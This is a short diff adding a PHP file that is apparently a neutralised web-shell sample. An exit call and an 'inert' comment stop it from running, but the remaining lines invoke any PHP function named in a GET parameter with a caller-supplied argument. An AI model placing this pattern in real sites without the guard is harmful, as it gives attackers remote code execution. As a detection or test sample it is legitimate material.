@@ -1,0 +1,3 @@
+<?php exit; /* inert */ 
+$r = new ReflectionFunction($_GET['fn']);
+echo $r->invoke($_GET['arg']);
